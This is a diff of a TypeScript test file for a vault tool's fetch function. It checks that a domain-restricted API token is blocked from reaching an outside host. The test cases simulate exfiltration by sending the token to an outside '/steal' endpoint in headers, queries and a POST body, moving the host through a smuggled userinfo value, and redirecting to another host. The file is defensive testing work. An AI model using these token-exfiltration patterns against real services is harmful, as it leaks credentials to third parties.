@@ -1,7 +1,7 @@
 import { expectNoSecretIn } from "@vaultlink/testkit";
 import { describe, expect, it } from "vitest";
-import { formatResult, runCollection } from "../src/index.js";
-import { collection, everything, request, secretValue, useTestBed } from "./helpers.js";
+import { type FetchOutcome, formatOutcome, type VaultRequest, vaultFetch } from "../src/index.js";
+import { everything, secretValue, useTestBed } from "./helpers.js";
 
 describe("a domain-restricted secret", () => {
   const token = secretValue("api-token");
@@ -11,33 +11,29 @@ describe("a domain-restricted secret", () => {
     await vault.secrets.add("open", { value: open });
     await vault.secrets.add("userinfo", { value: `u@${new URL(outside.origin).host}/` });
   });
+  const send = async (requests: VaultRequest[]): Promise<FetchOutcome[]> => {
+    const out: FetchOutcome[] = [];
+    for (const r of requests) out.push(await vaultFetch(bed.vault, r));
+    return out;
+  };
 
   it("reaches its allowed host and never a host outside its allowed domains", async () => {
     const auth = { Authorization: "Bearer {{vault:api-token}}" };
-    const run = await runCollection(
-      collection(
-        [
-          request("allowed", `${bed.api.origin}/orders`, { headers: auth }),
-          request("outside by URL", `${bed.outside.origin}/steal`, { headers: auth }),
-          request("outside by variable", "{{elsewhere}}/steal?t={{vault:api-token}}"),
-          request("outside in body", `${bed.outside.origin}/steal`, {
-            method: "POST",
-            body: '{"token":"{{vault:api-token}}"}',
-          }),
-          request(
-            "outside through userinfo",
-            `http://{{vault:userinfo}}@127.0.0.1/x?t={{vault:api-token}}`,
-          ),
-          request("unrestricted secret", `${bed.outside.origin}/open`, {
-            headers: { "X-Open": "{{vault:open}}" },
-          }),
-        ],
-        { elsewhere: bed.outside.origin },
-      ),
-      { vault: bed.vault },
-    );
+    const outcomes = await send([
+      { url: `${bed.api.origin}/orders`, headers: auth },
+      { url: `${bed.outside.origin}/steal`, headers: auth },
+      { url: `${bed.outside.origin}/steal?t={{vault:api-token}}` },
+      {
+        method: "POST",
+        url: `${bed.outside.origin}/steal`,
+        body: '{"token":"{{vault:api-token}}"}',
+      },
+      // A value that moves the URL to another host: the URL's secrets are checked again.
+      { url: "http://{{vault:userinfo}}@127.0.0.1/x?t={{vault:api-token}}" },
+      { url: `${bed.outside.origin}/open`, headers: { "X-Open": "{{vault:open}}" } },
+    ]);
 
-    expect(run.results.map((r) => r.outcome)).toEqual([
+    expect(outcomes.map((r) => r.outcome)).toEqual([
       "sent",
       "stopped",
       "stopped",
@@ -45,7 +41,7 @@ describe("a domain-restricted secret", () => {
       "stopped",
       "sent",
     ]);
-    for (const r of run.results.slice(1, 5)) {
+    for (const r of outcomes.slice(1, 5)) {
       expect(r.outcome === "stopped" && r.unresolved.map((u) => u.reason)).toEqual([
         "domain-not-allowed",
       ]);
@@ -61,18 +57,15 @@ describe("a domain-restricted secret", () => {
 
   it("is not carried along a redirect to another host", async () => {
     bed.api.respond("/moved", 307, { location: `${bed.outside.origin}/landing` });
-    const run = await runCollection(
-      collection([
-        request("redirected", `${bed.api.origin}/moved`, {
-          method: "POST",
-          headers: { "X-Api-Key": "{{vault:api-token}}" },
-          body: "token={{vault:api-token}}",
-        }),
-      ]),
-      { vault: bed.vault },
-    );
+    const [result] = await send([
+      {
+        method: "POST",
+        url: `${bed.api.origin}/moved`,
+        headers: { "X-Api-Key": "{{vault:api-token}}" },
+        body: "token={{vault:api-token}}",
+      },
+    ]);
 
-    const [result] = run.results;
     expect(result?.outcome === "sent" && result.status).toBe(307);
     expect(result?.outcome === "sent" && result.redirectNotFollowed).toBe(
       `${bed.outside.origin}/landing`,
@@ -81,25 +74,22 @@ describe("a domain-restricted secret", () => {
     expect(bed.outside.received).toHaveLength(0);
   });
 
-  it("never shows its value in results or printed output", async () => {
-    const run = await runCollection(
-      collection([
-        request("in URL", `${bed.api.origin}/q?key={{vault:api-token}}`),
-        request("in header", `${bed.api.origin}/h`, {
-          headers: { "X-Key": "{{vault:api-token}}" },
-        }),
-        request("refused", `${bed.outside.origin}/q?key={{vault:api-token}}`),
-        request("unreachable", "http://127.0.0.1:1/down?key={{vault:api-token}}"),
-      ]),
-      { vault: bed.vault },
-    );
+  it("never shows its value in outcomes or printed output", async () => {
+    const requests: VaultRequest[] = [
+      { url: `${bed.api.origin}/q?key={{vault:api-token}}` },
+      { url: `${bed.api.origin}/h`, headers: { "X-Key": "{{vault:api-token}}" } },
+      { url: `${bed.outside.origin}/q?key={{vault:api-token}}` },
+      { url: "http://127.0.0.1:1/down?key={{vault:api-token}}" },
+    ];
+    const outcomes = await send(requests);
 
-    expect(run.results.map((r) => r.outcome)).toEqual(["sent", "sent", "stopped", "failed"]);
-    expect(run.results[0]?.url).toBe(`${bed.api.origin}/q?key={{vault:api-token}}`);
+    expect(outcomes.map((r) => r.outcome)).toEqual(["sent", "sent", "stopped", "failed"]);
     expect(bed.api.received.map((r) => r.url.includes(token))).toEqual([true, false]);
-    const printed = run.results.flatMap(formatResult).join("\n");
+    const printed = outcomes
+      .flatMap((o, i) => formatOutcome(requests[i] as VaultRequest, o))
+      .join("\n");
     expect(printed).toContain("{{vault:api-token}}");
-    expectNoSecretIn(run, [token], "the run result");
+    expectNoSecretIn(outcomes, [token], "the outcomes");
     expectNoSecretIn(printed, [token], "the printed output");
   });
 });
